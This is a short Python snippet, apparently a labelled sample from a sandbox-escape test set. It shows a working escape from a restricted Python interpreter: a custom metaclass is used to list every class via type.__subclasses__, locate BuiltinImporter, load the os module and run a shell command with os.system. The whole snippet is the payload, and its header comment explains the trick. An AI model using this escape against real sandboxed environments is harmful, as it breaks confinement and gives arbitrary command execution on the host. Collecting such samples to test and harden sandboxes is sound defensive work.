# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: on an own metaclass (subclass of type) M.__subclasses__ is the unbound type method, so M.__subclasses__(object) lists everything
class M(type):
    pass


for c in M.__subclasses__(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
